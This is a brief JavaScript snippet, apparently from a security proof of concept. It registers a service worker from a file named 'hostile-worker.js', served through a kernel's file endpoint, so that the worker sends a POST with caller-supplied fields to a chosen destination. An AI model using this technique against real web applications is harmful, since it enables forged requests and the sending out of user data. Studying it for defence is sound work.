// POST: a fetch from a service worker, which a kernel can have served as a file
const url = `/files/hostile-worker.js?to=${encodeURIComponent(to)}`
  + `&body=${encodeURIComponent(new URLSearchParams(fields))}`;
const scope = `/files/${Math.random()}/`;
const { installing } = await navigator.serviceWorker.register(url, { scope });
await new Promise(resolve => {
  installing.onstatechange = resolve;  // once its fetch is over
});
